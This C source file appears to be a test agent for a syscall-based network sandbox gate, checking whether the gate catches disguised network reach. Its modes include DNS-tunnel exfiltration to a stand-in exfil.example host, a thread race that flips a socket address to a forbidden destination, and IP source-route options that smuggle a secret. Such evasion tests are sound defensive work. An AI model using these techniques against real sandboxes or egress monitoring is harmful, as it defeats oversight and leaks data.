// netconnect: an agent whose every attack uses only calls, classes and
// programs its benign run already made; what differs is where it goes.
// Without a network baseline each attack is CLEAN.
//
//   netconnect MODE DEST [FORBIDDEN]
//   netconnect mmsg DEST...
//
// DEST is ADDR:PORT (IPv4) or unix:/path. Record a mode with the
// destination the baseline allows; check it with another one.
//   connect  connects a stream socket to DEST and closes it
//   send     sends a datagram to DEST with sendto (no connect) and waits
//            for the echo
//   dns      sends a DNS query for c2VjcmV0.exfil.example ("secret" in
//            base64) to DEST with sendto, ignoring /etc/resolv.conf, and
//            waits for the answer
//   mmsg     sends one sendmmsg with a datagram to each DEST (1 to 4 of
//            them, IPv4) from one unconnected socket and waits for as many
//            echoes
//   from     (netconnect from BIND DEST) binds a stream socket to BIND,
//            then connects it to DEST (0.0.0.0:Q reaches BIND's address)
//   flip     connects 2000 times through one sockaddr buffer while a second
//            thread flips its address between DEST and FORBIDDEN (the same
//            port: only the 4-byte address changes, with one store, so the
//            kernel copies one or the other, never a mix)
//   route    (netconnect route DEST [VIA]) sends routeSecret to DEST with
//            sendto from a UDP socket that first sets its IP options
//            (setsockopt IP_OPTIONS): a loose source route through VIA, or
//            with no VIA an empty list (no options)
//   retopts  (netconnect retopts DEST [VIA]) the same with sendmsg, the
//            options in an IP_RETOPTS control message on the call
//   The IP header of a source-routed packet names VIA, the first hop, as
//   its destination; DEST travels in the option. route prints
//   "options: ok" or the error; both print "sent N" or the error.
// Exit status 0 whatever the outcome of the attack (the verdict is the
// gate's, not the agent's).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static void must(int ok, const char *what) {
	if (!ok) {
		perror(what);
		exit(2);
	}
}

union dest {
	struct sockaddr sa;
	struct sockaddr_in in;
	struct sockaddr_un un;
};

// parse reads ADDR:PORT or unix:/path into d and returns its length.
static socklen_t parse(const char *s, union dest *d) {
	memset(d, 0, sizeof *d);
	if (!strncmp(s, "unix:", 5)) {
		must(strlen(s + 5) < sizeof d->un.sun_path, "unix path too long");
		d->un.sun_family = AF_UNIX;
		strcpy(d->un.sun_path, s + 5);
		return sizeof d->un;
	}
	char host[64];
	const char *colon = strrchr(s, ':');
	must(colon && (size_t)(colon - s) < sizeof host, "destination is not ADDR:PORT");
	memcpy(host, s, colon - s);
	host[colon - s] = 0;
	d->in.sin_family = AF_INET;
	d->in.sin_port = htons(atoi(colon + 1));
	must(inet_pton(AF_INET, host, &d->in.sin_addr) == 1, "destination address");
	return sizeof d->in;
}

// streamFrom connects to dest from a socket bound to bind.
static void streamFrom(const char *bind_, const char *dest) {
	union dest b, d;
	socklen_t blen = parse(bind_, &b), len = parse(dest, &d);
	int fd = socket(d.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	must(fd >= 0, "socket");
	must(bind(fd, &b.sa, blen) == 0, "bind");
	if (connect(fd, &d.sa, len) != 0)
		perror("connect");
	close(fd);
}

static void stream(const char *dest) {
	union dest d;
	socklen_t len = parse(dest, &d);
	int fd = socket(d.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	must(fd >= 0, "socket");
	if (connect(fd, &d.sa, len) != 0)
		perror("connect");
	close(fd);
}

// datagram sends msg to dest without connecting and waits (at most 10 s)
// for one datagram back.
static void datagram(const char *dest, const void *msg, size_t n) {
	union dest d;
	socklen_t len = parse(dest, &d);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	must(fd >= 0, "socket");
	struct timeval tv = {.tv_sec = 10};
	must(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv) == 0, "setsockopt");
	if (sendto(fd, msg, n, 0, &d.sa, len) < 0)
		perror("sendto");
	char buf[512];
	if (recvfrom(fd, buf, sizeof buf, 0, NULL, NULL) < 0)
		perror("recvfrom");
	close(fd);
}

// mmsg sends "hello" to each of dests with one sendmmsg and waits (at
// most 10 s each) for as many datagrams back.
static void mmsg(char **dests, int n) {
	union dest d[4];
	struct iovec iov = {.iov_base = "hello", .iov_len = 5};
	struct mmsghdr msgs[4];
	must(n >= 1 && n <= 4, "mmsg: 1 to 4 destinations");
	memset(msgs, 0, sizeof msgs);
	for (int i = 0; i < n; i++) {
		msgs[i].msg_hdr.msg_name = &d[i];
		msgs[i].msg_hdr.msg_namelen = parse(dests[i], &d[i]);
		must(d[i].sa.sa_family == AF_INET, "mmsg: IPv4 destinations");
		msgs[i].msg_hdr.msg_iov = &iov;
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	must(fd >= 0, "socket");
	struct timeval tv = {.tv_sec = 10};
	must(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv) == 0, "setsockopt");
	int sent = sendmmsg(fd, msgs, n, 0);
	if (sent < 0)
		perror("sendmmsg");
	printf("sent %d\n", sent);
	char buf[512];
	for (int i = 0; i < sent; i++)
		if (recvfrom(fd, buf, sizeof buf, 0, NULL, NULL) < 0)
			perror("recvfrom");
	close(fd);
}

// dnsquery writes a query for name (type A, recursion desired) into buf.
static size_t dnsquery(unsigned char *buf, const char *name) {
	static const unsigned char header[12] = {0x51, 0x7e, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(buf, header, sizeof header);
	size_t n = sizeof header;
	for (const char *label = name; *label;) {
		size_t l = strcspn(label, ".");
		buf[n++] = (unsigned char)l;
		memcpy(buf + n, label, l);
		n += l;
		label += l;
		if (*label == '.')
			label++;
	}
	buf[n++] = 0;
	const unsigned char tail[4] = {0, 1, 0, 1};
	memcpy(buf + n, tail, sizeof tail);
	return n + sizeof tail;
}

static struct sockaddr_in flipbuf;
static uint32_t flip_a, flip_b;

// flipper flips until the process exits: a thread that ended on its own
// would madvise its stack away on the way out, and a join would wait in
// futex, each only when the scheduler let it, so a baseline recorded
// from one run would miss it in another. exit_group ends it.
static void *flipper(void *arg) {
	(void)arg;
	_Atomic uint32_t *addr = (_Atomic uint32_t *)&flipbuf.sin_addr.s_addr;
	for (;;) {
		atomic_store_explicit(addr, flip_a, memory_order_relaxed);
		atomic_store_explicit(addr, flip_b, memory_order_relaxed);
	}
	return NULL;
}

static void flip(const char *allowed, const char *forbidden) {
	union dest a, b;
	parse(allowed, &a);
	parse(forbidden, &b);
	must(a.sa.sa_family == AF_INET && b.sa.sa_family == AF_INET && a.in.sin_port == b.in.sin_port,
	     "flip: two IPv4 destinations on one port");
	flipbuf = a.in;
	flip_a = a.in.sin_addr.s_addr;
	flip_b = b.in.sin_addr.s_addr;
	pthread_t t;
	must(pthread_create(&t, NULL, flipper, NULL) == 0, "pthread_create");
	for (int i = 0; i < 2000; i++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		must(fd >= 0, "socket");
		connect(fd, (struct sockaddr *)&flipbuf, sizeof flipbuf);
		close(fd);
	}
}

// routeSecret is what the route modes send: the spec looks for it in
// packets addressed to VIA.
static const char routeSecret[] = "sysgate-route-secret";

// lsrr writes a loose source route through via into opt (IPOPT_LSRR, its
// length, the pointer 4, the first hop; then IPOPT_END to pad to a
// multiple of 4) and returns its length, or 0 for no via.
static socklen_t lsrr(const char *via, unsigned char opt[8]) {
	if (!via)
		return 0;
	opt[0] = IPOPT_LSRR;
	opt[1] = 7;
	opt[2] = 4;
	must(inet_pton(AF_INET, via, opt + 3) == 1, "via address");
	opt[7] = IPOPT_END;
	return 8;
}

static void route(const char *dest, const char *via, int cmsg) {
	union dest d;
	socklen_t len = parse(dest, &d);
	must(d.sa.sa_family == AF_INET, "route: an IPv4 destination");
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	must(fd >= 0, "socket");
	unsigned char opt[8];
	socklen_t optlen = lsrr(via, opt);
	ssize_t n;
	if (!cmsg) {
		if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opt, optlen) == 0)
			printf("options: ok\n");
		else
			perror("options");
		n = sendto(fd, routeSecret, sizeof routeSecret - 1, 0, &d.sa, len);
	} else {
		union {
			char buf[CMSG_SPACE(sizeof opt)];
			struct cmsghdr align;
		} control;
		memset(&control, 0, sizeof control);
		struct iovec iov = {.iov_base = (void *)routeSecret, .iov_len = sizeof routeSecret - 1};
		struct msghdr msg = {.msg_name = &d, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1,
		                     .msg_control = control.buf, .msg_controllen = CMSG_SPACE(optlen)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
		c->cmsg_level = IPPROTO_IP;
		c->cmsg_type = IP_RETOPTS;
		c->cmsg_len = CMSG_LEN(optlen);
		memcpy(CMSG_DATA(c), opt, optlen);
		n = sendmsg(fd, &msg, 0);
	}
	if (n < 0)
		perror("send");
	else
		printf("sent %zd\n", n);
	close(fd);
}

int main(int argc, char **argv) {
	if (argc < 3) {
		fprintf(stderr, "usage: netconnect MODE DEST [FORBIDDEN]\n");
		return 2;
	}
	const char *mode = argv[1], *dest = argv[2];
	if (!strcmp(mode, "connect")) {
		stream(dest);
	} else if (!strcmp(mode, "send")) {
		datagram(dest, "hello", 5);
	} else if (!strcmp(mode, "dns")) {
		unsigned char q[512];
		datagram(dest, q, dnsquery(q, "c2VjcmV0.exfil.example"));
	} else if (!strcmp(mode, "mmsg")) {
		mmsg(argv + 2, argc - 2);
	} else if (!strcmp(mode, "from") && argc == 4) {
		streamFrom(dest, argv[3]);
	} else if ((!strcmp(mode, "route") || !strcmp(mode, "retopts")) && argc <= 4) {
		route(dest, argc == 4 ? argv[3] : NULL, !strcmp(mode, "retopts"));
	} else if (!strcmp(mode, "flip") && argc == 4) {
		flip(dest, argv[3]);
	} else {
		fprintf(stderr, "netconnect: unknown mode %s\n", mode);
		return 2;
	}
	return 0;
}
